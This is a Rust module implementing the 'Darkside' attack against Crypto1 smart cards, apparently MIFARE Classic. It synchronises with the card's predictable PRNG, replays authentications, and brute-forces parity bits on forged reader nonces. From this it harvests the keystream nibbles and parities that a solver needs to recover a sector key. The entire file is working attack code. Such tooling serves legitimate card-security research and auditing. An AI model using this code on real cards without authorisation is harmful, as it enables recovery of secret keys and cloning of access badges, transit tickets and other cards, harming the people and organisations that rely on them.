/*! Darkside attack driver.

Collects, for one key, the eight keystream nibbles behind reader nonces
that differ only in their top three parity bits, plus the parity bytes
the card accepted. The card leaks a 4-bit encrypted NACK whenever the
eight guessed parity bits of a forged `{nr, ar}` happen to match. The
driver forces that by replaying the authentication at the exact tick
where the card's PRNG hands out the same nonce again, then walking the
parity space.
*/

use log::{debug, info, warn};
use serde::Serialize;

use crate::crypto1::nonce_distance;
use crate::frame::Frame;
use crate::reader::select_card;
use crate::transceiver::{Transceive, TxOpts, TxTiming};
use crate::{AttackFailure, Error, Result};

/// The PRNG repeats on this many clock ticks.
const PRNG_SEQUENCE_LENGTH: i32 = 65536;
/// Give up calibration after this many off-orbit nonces.
const MAX_UNEXPECTED_RANDOM: u32 = 4;
/// Give up after this many failed sync attempts.
const MAX_SYNC_TRIES: u32 = 32;

/// Sync state carried between `first_try` and follow-up calls.
#[derive(Debug, Clone, Copy)]
pub struct DarksideState {
    nt_attacked: u32,
    sync_time: u32,
    sync_cycles: i32,
    nr_last_byte: u8,
    par_low: u8,
}

impl Default for DarksideState {
    fn default() -> Self {
        Self {
            nt_attacked: 0,
            sync_time: 0,
            sync_cycles: PRNG_SEQUENCE_LENGTH,
            nr_last_byte: 0,
            par_low: 0,
        }
    }
}

/// A successful harvest.
#[derive(Debug, Clone, Serialize)]
pub struct DarksideOutcome {
    /// Card UID.
    pub uid: Vec<u8>,
    /// The attacked tag nonce.
    pub nt: u32,
    /// Reader nonce the keystream belongs to.
    pub nr: [u8; 4],
    /// Accepted parity per `nt_diff`, bit-reversed as the key solver
    /// wants them.
    pub par_list: [u8; 8],
    /// Keystream nibbles per `nt_diff`.
    pub ks_list: [u8; 8],
}

/// Run the attack. `first_try` restarts calibration; a follow-up call
/// continues with the next reader nonce after a previous harvest failed
/// to produce the key.
pub fn run<T: Transceive>(
    trx: &mut T,
    state: &mut DarksideState,
    first_try: bool,
) -> Result<DarksideOutcome> {
    let mut mf_nr_ar = [0u8; 8];
    let mut par = vec![0u8];
    if first_try {
        *state = DarksideState {
            sync_time: trx.now() & !7,
            ..DarksideState::default()
        };
    } else {
        // Previous nonce failed; move to the next while keeping the
        // three known parity bits.
        state.nr_last_byte = state.nr_last_byte.wrapping_add(1);
        par[0] = state.par_low;
    }
    mf_nr_ar[3] = state.nr_last_byte;

    let auth = Frame::new(&{
        let mut a = vec![0x60, 0x00];
        crate::crc::append_crc_a(&mut a);
        a
    });

    let mut have_uid = false;
    let mut uid: Vec<u8> = Vec::new();
    let mut previous_nt = 0u32;
    let mut nt = 0u32;
    let mut nt_diff = 0u8;
    let mut catch_up_cycles = 0i32;
    let mut last_catch_up = 0i32;
    let mut consecutive_resyncs = 0u32;
    let mut unexpected_random = 0u32;
    let mut sync_tries = 0u32;
    let mut par_list = [0u8; 8];
    let mut ks_list = [0u8; 8];

    for i in 0u32.. {
        if trx.cancelled() {
            return Err(Error::Cancelled);
        }
        if !have_uid {
            let card = match select_card(trx, None) {
                Ok(c) => c,
                Err(_) => continue,
            };
            uid = card.uid;
            have_uid = true;
        } else if select_card(trx, Some(&uid)).is_err() {
            continue;
        }

        let mut elapsed_prng_sequences = 1i32;
        // Aim the AUTH so the card's PRNG lands on the attacked nonce
        // again.
        state.sync_time = (state.sync_time & !7)
            .wrapping_add((state.sync_cycles + catch_up_cycles) as u32);
        catch_up_cycles = 0;
        while (trx.now().wrapping_sub(state.sync_time) as i32) > 0 {
            elapsed_prng_sequences += 1;
            state.sync_time = (state.sync_time & !7).wrapping_add(state.sync_cycles as u32);
        }

        let reply = match trx.transceive(
            &auth,
            TxOpts {
                timing: TxTiming::At(state.sync_time),
                ..TxOpts::default()
            },
        ) {
            Ok(r) => r,
            Err(Error::Timeout) => continue,
            Err(e) => return Err(e),
        };
        if reply.frame.len() != 4 {
            continue;
        }
        previous_nt = nt;
        nt = u32::from_be_bytes(reply.frame.bytes()[..4].try_into().unwrap_or([0; 4]));

        // Fire the forged reader nonce with the candidate parity.
        let nr_ar = Frame::with_parity(&mf_nr_ar, &par);
        let answer = trx.transceive(&nr_ar, TxOpts::default());

        if first_try && previous_nt != 0 && state.nt_attacked == 0 {
            // Clock calibration.
            match nonce_distance(previous_nt, nt) {
                Some(0) => {
                    state.nt_attacked = nt;
                    debug!("calibration locked on nt {nt:08x}");
                }
                Some(d) => {
                    sync_tries += 1;
                    if sync_tries > MAX_SYNC_TRIES {
                        warn!("too many sync attempts");
                        return Err(Error::AttackGaveUp(AttackFailure::UnstablePrng));
                    }
                    state.sync_cycles -= d / elapsed_prng_sequences;
                    if state.sync_cycles <= 0 {
                        state.sync_cycles += PRNG_SEQUENCE_LENGTH;
                    }
                    debug!("resync: distance {d}, sync_cycles now {}", state.sync_cycles);
                    continue;
                }
                None => {
                    unexpected_random += 1;
                    if unexpected_random > MAX_UNEXPECTED_RANDOM {
                        warn!("nonces are not on the PRNG orbit");
                        return Err(Error::AttackGaveUp(AttackFailure::UnpredictablePrng));
                    }
                    continue;
                }
            }
        }

        if state.nt_attacked != 0 && nt != state.nt_attacked {
            // Lost sync; try a one-time catch-up before touching the
            // calibrated period.
            let Some(d) = nonce_distance(state.nt_attacked, nt) else {
                continue;
            };
            catch_up_cycles = -d / elapsed_prng_sequences;
            if catch_up_cycles == last_catch_up {
                consecutive_resyncs += 1;
            } else {
                last_catch_up = catch_up_cycles;
                consecutive_resyncs = 0;
            }
            if consecutive_resyncs < 3 {
                debug!(
                    "lost sync in cycle {i} (distance {d}), catching up {catch_up_cycles} ticks"
                );
            } else {
                state.sync_cycles += catch_up_cycles;
                debug!(
                    "lost sync four times in a row, absorbing drift: sync_cycles {}",
                    state.sync_cycles
                );
                last_catch_up = 0;
                catch_up_cycles = 0;
                consecutive_resyncs = 0;
            }
            continue;
        }

        match answer {
            Ok(r) if r.frame.bits() == 4 => {
                // An encrypted NACK: the parity guess was right.
                // The NACK costs the PRNG half a byte of time.
                catch_up_cycles = 8;
                if nt_diff == 0 {
                    // Nonce bytes 0..2 never change; their parity bits
                    // are settled now.
                    state.par_low = par[0] & 0xe0;
                }
                par_list[usize::from(nt_diff)] = par[0].reverse_bits();
                ks_list[usize::from(nt_diff)] = r.frame.bytes()[0] ^ 0x05;
                if nt_diff == 0x07 {
                    info!("darkside harvest complete for nt {nt:08x}");
                    break;
                }
                nt_diff = (nt_diff + 1) & 0x07;
                mf_nr_ar[3] = (mf_nr_ar[3] & 0x1f) | (nt_diff << 5);
                par[0] = state.par_low;
            }
            Ok(_) => continue,
            Err(Error::Timeout) => {
                // No NACK: wrong parity, advance the search.
                if nt_diff == 0 && first_try {
                    par[0] = par[0].wrapping_add(1);
                    if par[0] == 0 {
                        warn!("all 256 parities tried, card does not leak");
                        return Err(Error::AttackGaveUp(AttackFailure::NoNack));
                    }
                } else {
                    // Only the low five bits walk; the wraparound must
                    // not spill into the frozen parity bits.
                    par[0] = (((par[0] & 0x1f) + 1) & 0x1f) | state.par_low;
                }
            }
            Err(e) => return Err(e),
        }
    }

    state.nr_last_byte = mf_nr_ar[3] & 0x1f;
    Ok(DarksideOutcome {
        uid,
        nt,
        nr: [mf_nr_ar[0], mf_nr_ar[1], mf_nr_ar[2], mf_nr_ar[3] & 0x1f],
        par_list,
        ks_list,
    })
}
